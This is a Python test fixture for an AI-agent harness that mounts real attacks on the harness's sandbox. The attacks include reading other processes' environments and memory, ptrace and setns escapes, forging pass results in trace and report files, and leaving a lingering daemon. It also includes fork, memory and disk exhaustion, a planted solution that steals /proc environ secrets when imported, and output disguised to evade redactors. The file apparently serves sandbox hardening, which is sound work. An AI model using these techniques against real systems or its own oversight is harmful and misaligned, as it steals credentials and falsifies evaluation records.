#!/usr/bin/env python3
"""A hostile Case: each --mode is one attack on the harness, tried for real. Stdlib only.

Whatever an attack gets hold of is written out reversed and spaced (a form no redactor
knows) to stdout and to workspace/loot.txt, so the test can tell from the disk alone
whether the attack got anything. Each attempt prints one `attack: ...` line saying what
happened. After the attack the Case does its job (asks the relay, writes a good solution),
so the run itself can pass.

procfs   --decoy-pid N: reads /proc/<pid>/environ, cmdline and mem of every process it can
         see and of N (a host process holding the secret), and tries to ptrace each
files    --path P (repeatable): reads each path (a `_FILE` secret, the real home, /root)
sockets  --unix PATH (repeatable) --target-file F --decoy-pid N: connects to each
         filesystem Unix socket, to the upstream over TCP, and tries setns into the
         network namespaces of pid 1 and of N
ledgers  --runs-root R --install DIR: appends to ../trace.jsonl, ../backend/relay.jsonl
         and ../report.json (beside its workspace) and to those of every run under R,
         and writes into the harness's install
daemon   --runs-root R: leaves a setsid daemon that, 2 s later, overwrites the report and
         the trace (beside its workspace and of every run under R), then sleeps on
bomb     forks processes until the kernel refuses, reports how many, ends them
memory   allocates 8 GiB, 32 MiB at a time, every page written (a runaway agent)
disk     fills /tmp until it is refused, then writes 10 GiB into its workspace, 8 MiB files
signal   ends itself with SIGTERM
freeze   stops its parent (the sandbox's forwarder) with SIGSTOP, then exits
write    --path DIR (repeatable): writes DIR/written.txt
plant    --target-file F: writes a solution that, when the checks import it, reads every
         /proc/*/environ, calls the upstream and writes what it got to /checks/out
"""

import argparse
import contextlib
import ctypes
import glob
import json
import os
import socket
import sys
import time
import urllib.request

GOOD = '''import re
import unicodedata


def slugify(text: str) -> str:
    text = unicodedata.normalize("NFKD", text).encode("ascii", "ignore").decode("ascii")
    return re.sub(r"[^a-z0-9]+", "-", text.lower()).strip("-")
'''
PLANTED = GOOD + '''

def _attack():
    import os, socket
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/environ", "rb") as fh:
                    found.append(fh.read())
            except OSError:
                pass
    try:
        socket.create_connection(("127.0.0.1", {port}), timeout=3).close()
        upstream = "reached"
    except OSError as exc:
        upstream = f"unreachable ({{type(exc).__name__}})"
    loot = b"".join(found)[::-1]
    for where in ("/checks/out", "/workspace", "/tmp"):
        try:
            with open(os.path.join(where, "attack.txt"), "w") as fh:
                fh.write(f"pids {{len(found)}} upstream {{upstream}}\\n")
            with open(os.path.join(where, "attack-loot.bin"), "wb") as fh:
                fh.write(loot)
            break
        except OSError:
            continue


_attack()
'''
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
WALL = 0x40000000
CLONE_NEWNET = 0x40000000

loot: list[bytes] = []


def say(text: str) -> None:
    print(f"attack: {text}", flush=True)


def grab(what: str, read) -> None:
    try:
        data = read()
    except OSError as exc:
        say(f"{what}: {type(exc).__name__} ({exc.strerror})")
        return
    loot.append(data)
    say(f"{what}: got {len(data)} bytes")


def read_file(path: str) -> bytes:
    with open(path, "rb") as fh:
        return fh.read()


def read_mem(pid: str) -> bytes:
    with open(f"/proc/{pid}/maps") as fh:
        start = int(fh.readline().split("-")[0], 16)
    with open(f"/proc/{pid}/mem", "rb") as fh:
        fh.seek(start)
        return fh.read(4096)


def procfs(decoy: str) -> None:
    pids = sorted(p for p in os.listdir("/proc") if p.isdigit())
    say(f"visible pids {' '.join(pids)}")
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in [*pids, decoy]:
        if pid == str(os.getpid()):
            continue
        for name in ("environ", "cmdline"):
            grab(f"pid {pid} {name}", lambda pid=pid, name=name: read_file(
                f"/proc/{pid}/{name}"))
        grab(f"pid {pid} mem", lambda pid=pid: read_mem(pid))
        if libc.ptrace(PTRACE_ATTACH, int(pid), None, None) == 0:
            say(f"pid {pid} ptrace: attached")
            with contextlib.suppress(OSError):  # wait for its stop, then let it go on
                os.waitpid(int(pid), WALL)
            libc.ptrace(PTRACE_DETACH, int(pid), None, None)
        else:
            say(f"pid {pid} ptrace: {os.strerror(ctypes.get_errno())}")


def sockets(unix: list[str], target: str, decoy: str) -> None:
    for path in unix:
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
                sock.connect(path)
                sock.sendall(b"GET / HTTP/1.0\r\n\r\n")
                say(f"unix {path}: connected, got {sock.recv(100)!r}")
        except OSError as exc:
            say(f"unix {path}: {type(exc).__name__} ({exc.strerror})")
    host, port = read_file(target).decode().strip().rsplit(":", 1)
    try:
        socket.create_connection((host, int(port)), timeout=3).close()
        say("upstream tcp: connected")
    except OSError as exc:
        say(f"upstream tcp: {type(exc).__name__} ({exc.strerror})")
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in ("1", decoy):
        try:
            fd = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
        except OSError as exc:
            say(f"setns pid {pid}: open {type(exc).__name__} ({exc.strerror})")
            continue
        result = libc.setns(fd, CLONE_NEWNET)
        say(f"setns pid {pid}: " + ("entered" if result == 0
                                    else os.strerror(ctypes.get_errno())))
        os.close(fd)


def append(path: str, line: bytes) -> None:
    try:
        with open(path, "ab") as fh:
            fh.write(line)
        say(f"append {path}: written")
    except OSError as exc:
        say(f"append {path}: {type(exc).__name__} ({exc.strerror})")


def runs(workspace: str, runs_root: str) -> list[str]:
    return [os.path.join(workspace, ".."), *glob.glob(os.path.join(runs_root, "*"))]


def ledgers(workspace: str, runs_root: str, install: str) -> None:
    forged = json.dumps({"seq": 999, "event": "forged"}).encode() + b"\n"
    for base in runs(workspace, runs_root):
        append(os.path.join(base, "trace.jsonl"), forged)
        append(os.path.join(base, "backend", "relay.jsonl"), forged)
        append(os.path.join(base, "report.json"), b" ")
    append(os.path.join(install, "core", "planted.py"), b"print('planted')\n")


def daemon(workspace: str, runs_root: str) -> None:
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    for fd in (0, 1, 2):
        with contextlib.suppress(OSError):
            os.close(fd)
    time.sleep(2)
    forged = json.dumps({"status": "passed", "forged": True}).encode()
    for base in runs(workspace, runs_root):
        for name in ("report.json", "trace.jsonl"):
            with contextlib.suppress(OSError), open(os.path.join(base, name), "wb") as fh:
                fh.write(forged)
    time.sleep(3600)


def bomb() -> None:
    children = []
    while True:
        try:
            pid = os.fork()
        except OSError as exc:
            say(f"bomb: {len(children)} processes, then fork refused ({exc.strerror})")
            break
        if pid == 0:
            time.sleep(3600)
            os._exit(0)
        children.append(pid)
        if len(children) > 100_000:
            say("bomb: never refused")
            break
    for pid in children:
        os.kill(pid, 9)
    for pid in children:
        os.waitpid(pid, 0)


def memory() -> None:
    held = []
    for n in range(1, 257):
        held.append(b"x" * (32 << 20))  # written, so really charged
        if n % 32 == 0:
            say(f"memory: {n * 32} MiB held")
    say("memory: 8 GiB held, never stopped")


def disk(workspace: str) -> None:
    block = b"y" * (1 << 20)
    written = 0
    try:
        with open("/tmp/fill.bin", "wb") as fh:
            while written < (1 << 30):
                fh.write(block)
                fh.flush()
                written += 1
    except OSError as exc:
        say(f"disk: /tmp refused after {written} MiB ({exc.strerror})")
    total = 0
    for n in range(1280):
        try:
            with open(os.path.join(workspace, f"fill-{n}.bin"), "wb") as fh:
                for _ in range(8):
                    fh.write(block)
            total += 8
        except OSError as exc:
            say(f"disk: workspace refused after {total} MiB ({exc.strerror})")
            return
    say("disk: 10 GiB written, never stopped")


def ask(model: str) -> bool:
    base = os.environ["OPENAI_BASE_URL"].rstrip("/")
    body = {"model": model, "messages": [{"role": "user", "content": "write slugify"}]}
    req = urllib.request.Request(
        base + "/chat/completions", data=json.dumps(body).encode(), method="POST",
        headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"],
                 "Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=30) as resp:
            resp.read()
        return True
    except OSError as exc:
        print(f"case: model request failed: {exc}", flush=True)
        return False


def main() -> int:
    p = argparse.ArgumentParser()
    p.add_argument("--mode", required=True)
    p.add_argument("--workspace", default=os.environ.get("CTO_HARNESS_WORKSPACE", "."))
    p.add_argument("--model", default=os.environ.get("CTO_HARNESS_CASE_MODEL"))
    p.add_argument("--decoy-pid", default="0")
    p.add_argument("--path", action="append", default=[])
    p.add_argument("--unix", action="append", default=[])
    p.add_argument("--target-file")
    p.add_argument("--runs-root", default="/nonexistent")
    p.add_argument("--install", default="/nonexistent")
    a = p.parse_args()
    print(f"case: mode {a.mode}, uid {os.getuid()}, pid {os.getpid()}", flush=True)
    source = GOOD
    if a.mode == "procfs":
        procfs(a.decoy_pid)
    elif a.mode == "files":
        for path in a.path:
            if os.path.isdir(path):
                say(f"list {path}: {' '.join(sorted(os.listdir(path)))}")
            else:
                grab(f"read {path}", lambda path=path: read_file(path))
    elif a.mode == "sockets":
        sockets(a.unix, a.target_file, a.decoy_pid)
    elif a.mode == "ledgers":
        ledgers(a.workspace, a.runs_root, a.install)
    elif a.mode == "daemon":
        daemon(a.workspace, a.runs_root)
        say("daemon: left behind")
    elif a.mode == "bomb":
        bomb()
    elif a.mode == "write":
        for path in a.path:
            try:
                with open(os.path.join(path, "written.txt"), "w") as fh:
                    fh.write("from the Case\n")
                say(f"write {path}: written")
            except OSError as exc:
                say(f"write {path}: {type(exc).__name__} ({exc.strerror})")
    elif a.mode == "freeze":
        os.kill(os.getppid(), 19)
        say(f"freeze: stopped pid {os.getppid()}")
        return 0
    elif a.mode == "memory":
        memory()
    elif a.mode == "disk":
        disk(a.workspace)
    elif a.mode == "signal":
        os.kill(os.getpid(), 15)
    elif a.mode == "plant":
        port = read_file(a.target_file).decode().strip().rsplit(":", 1)[1]
        source = PLANTED.replace("{port}", port).replace("{{", "{").replace("}}", "}")
    stolen = b"\n".join(loot)
    # Every byte got, in forms no redactor knows: reversed, and spaced out.
    sys.stdout.buffer.write(b"loot reversed: " + stolen[::-1] + b"\n")
    sys.stdout.buffer.write(b"loot spaced: " + b" ".join(bytes([c]) for c in stolen) + b"\n")
    sys.stdout.flush()
    with open(os.path.join(a.workspace, "loot.txt"), "wb") as fh:
        fh.write(stolen[::-1])
    if not ask(a.model):
        return 3
    with open(os.path.join(a.workspace, "slugify.py"), "w") as fh:
        fh.write(source)
    print("case: wrote slugify.py", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
